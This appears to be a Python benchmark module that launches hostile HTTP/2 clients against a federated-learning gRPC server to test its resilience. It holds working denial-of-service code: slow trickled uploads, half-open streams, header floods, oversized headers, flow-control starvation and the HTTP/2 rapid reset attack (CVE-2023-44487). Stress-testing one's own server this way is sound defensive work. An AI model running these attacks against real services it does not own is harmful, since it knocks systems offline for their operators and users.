"""Hostile clients in one process, each with its own connections.

    python -m benchmarks.attackers ADDRESS NUM_CLIENTS [ATTACK]

The command `begin` starts the attacks; `end` stops them and returns counts of their actions. Hostile clients never
join a run, since joining is a matter of authentication. They do everything else that costs a server resources: see
`ATTACKS`. A client reconnects `RETURN_S` after the server has closed its connection.
"""

from __future__ import annotations

import asyncio
import json
import os
import sys
import threading
from collections import Counter
from collections.abc import Awaitable, Callable, Coroutine
from contextlib import suppress

from fedmtl.v1 import federation_pb2 as pb

from benchmarks.frames import (
    DATA,
    RST_STREAM,
    Connection,
    frame,
    header_block,
    header_frames,
    message_prefix,
)
from benchmarks.processes import serve_commands
from benchmarks.swarm import raise_file_limit

RETURN_S = 1.0
"""Seconds until a client reconnects, as long as gRPC's own clients wait."""
TICK_S = 0.1

_SERVICE = "/" + pb.DESCRIPTOR.services_by_name["FederatedMtlService"].full_name + "/"
_SLICE = pb.GetSliceRequest(task="sst2").SerializeToString()
_MANY = 16
"""Concurrent calls of one client, if the server doesn't limit them."""
_MESSAGE_BYTES = 2_000_000


class Attackers:
    """All hostile clients.

    Args:
        address: address of the server.
        count: number of clients.
        only: use only the attacks whose name contains this text.
    """

    def __init__(self, address: str, count: int, only: str = ""):
        self._address = address
        self._count = count
        self._attacks = [(name, attack) for name, attack in ATTACKS.items() if only in name]
        self._done: Counter[str] = Counter()
        self._loop = asyncio.new_event_loop()
        self._tasks: list[asyncio.Task[None]] = []
        threading.Thread(target=self._loop.run_forever, daemon=True).start()

    def begin(self) -> None:
        """Start the attacks."""
        asyncio.run_coroutine_threadsafe(self._begin(), self._loop).result()

    def end(self) -> dict[str, object]:
        """Stop the attacks, and return how often each action and each outcome occurred."""
        asyncio.run_coroutine_threadsafe(self._end(), self._loop).result()
        done, self._done = dict(self._done), Counter()
        return {"done": done}

    async def _begin(self) -> None:
        for number in range(self._count):
            name, attack = self._attacks[number % len(self._attacks)]
            self._tasks.append(asyncio.create_task(self._client(name, attack)))

    async def _end(self) -> None:
        for task in self._tasks:
            task.cancel()
        await asyncio.gather(*self._tasks, return_exceptions=True)
        self._tasks.clear()

    async def _client(self, name: str, attack: Attack) -> None:
        def note(what: str) -> None:
            self._done[f"{name}: {what}"] += 1

        while True:
            with suppress(ConnectionError):
                await attack(self._address, note)
                self._done[f"{name}: disconnected"] += 1
            await asyncio.sleep(RETURN_S)


Note = Callable[[str], None]
Attack = Callable[[str, Note], Awaitable[None]]


async def _trickle(address: str, note: Note) -> None:
    """Uploads whose message is announced as 2 MB, arrives almost completely, and then one byte at a time."""
    async with Connection(address) as connection:
        streams: dict[int, asyncio.Task[None]] = {}
        while not connection.closed.is_set():
            for stream in [stream for stream in streams if stream in connection.ended]:
                streams.pop(stream).cancel()
                note("calls ended")
            if len(streams) < _MANY:
                stream = connection.open(_SERVICE + "PushUpdate")
                connection.write(frame(DATA, 0, stream, message_prefix(_MESSAGE_BYTES)))
                streams[stream] = asyncio.create_task(_send_slowly(connection, stream))
                note("calls")
            await asyncio.sleep(TICK_S / 4)


async def _send_slowly(connection: Connection, stream: int) -> None:
    await connection.send(stream, bytes(_MESSAGE_BYTES - 10_000))
    while stream not in connection.ended and not connection.closed.is_set():
        connection.write(frame(DATA, 0, stream, b"\0"))
        await asyncio.sleep(TICK_S)


async def _half_open(address: str, note: Note) -> None:
    """Calls that send headers only, as many as the server allows."""
    async with Connection(address) as connection:
        rpcs = ("GetSlice", "PushUpdate", "WatchRounds", "GetStatus", "QueryUpload")
        began = 0
        while not connection.closed.is_set():
            while began - len(connection.ended) < (connection.max_streams or _MANY):
                connection.open(_SERVICE + rpcs[began % len(rpcs)])
                began += 1
                note("calls")
            await connection.drain()
            await asyncio.sleep(TICK_S)


async def _flood(address: str, note: Note) -> None:
    """Headers of 6 kB, as fast as the operating system accepts them."""
    block = header_block(_SERVICE + "GetStatus", {"x": "y" * 6000})
    async with Connection(address) as connection:
        began = 0
        while not connection.closed.is_set():
            if began - len(connection.ended) >= (connection.max_streams or _MANY):
                await asyncio.sleep(0)
                continue
            connection.write(header_frames(connection.new_stream(), block, end_stream=True))
            began += 1
            note("calls")
            await connection.drain()


async def _reset(address: str, note: Note) -> None:
    """Calls that are canceled immediately (CVE-2023-44487), up to 10,000 per second."""
    block = header_block(_SERVICE + "GetStatus")
    async with Connection(address) as connection:
        while not connection.closed.is_set():
            batch = []
            for _ in range(20):
                stream = connection.new_stream()
                batch.append(header_frames(stream, block) + frame(RST_STREAM, 0, stream, (8).to_bytes(4, "big")))
                note("calls")
            connection.write(b"".join(batch))
            await connection.drain()
            await asyncio.sleep(0.002)


async def _oversized(address: str, note: Note) -> None:
    """Calls with headers of 100 kB."""
    block = header_block(_SERVICE + "GetStatus", {"x": "y" * 100_000})
    async with Connection(address) as connection:
        while not connection.closed.is_set():
            connection.write(header_frames(connection.new_stream(), block, end_stream=True))
            note("calls")
            await connection.drain()
            await asyncio.sleep(TICK_S / 10)


async def _unread(address: str, note: Note) -> None:
    """Downloads and event streams whose flow-control windows are never enlarged."""
    async with Connection(address, window=1000) as connection:
        began = 0
        while not connection.closed.is_set():
            while began - len(connection.ended) < _MANY:
                rpc, request = (("GetSlice", _SLICE), ("WatchRounds", b""))[began % 2]
                connection.call(_SERVICE + rpc, request)
                began += 1
                note("calls")
            await asyncio.sleep(TICK_S)


async def _deaf(address: str, note: Note) -> None:
    """Downloads with maximal flow-control windows, over a connection that is never read."""
    async with Connection(address, window=2**31 - 1, deaf=True) as connection:
        for _ in range(_MANY):
            connection.call(_SERVICE + "GetSlice", _SLICE)
            note("calls")
        while not connection.closed.is_set():  # a connection that isn't read notices the end only when it writes
            connection.write(frame(DATA, 0, 1, b""))
            try:
                await connection.drain()
            except ConnectionError:
                return
            if connection.is_lost:
                return
            await asyncio.sleep(TICK_S)


async def _paced(address: str, note: Note) -> None:
    """Calls at the rate that the server allows, none of which it rejects."""
    async with Connection(address) as connection:
        while not connection.closed.is_set():
            connection.call(_SERVICE + "GetStatus", b"")
            note("calls")
            await asyncio.sleep(1 / 19)


ATTACKS: dict[str, Callable[[str, Note], Coroutine[object, None, None]]] = {
    "trickled uploads": _trickle,
    "half-open calls": _half_open,
    "unread downloads and events": _unread,
    "header flood": _flood,
    "deaf downloads": _deaf,
    "rapid reset": _reset,
    "oversized headers": _oversized,
    "polling": _paced,
}
"""The attacks by name; clients are assigned to them in rotation."""


def main(address: str, count: str, only: str = "") -> None:
    os.nice(19)  # real attackers have their own machines; only the server's time counts here
    raise_file_limit()
    attackers = Attackers(address, int(count), only)
    print(json.dumps("ready"), flush=True)
    serve_commands({"begin": attackers.begin, "end": attackers.end})


if __name__ == "__main__":
    main(*sys.argv[1:])
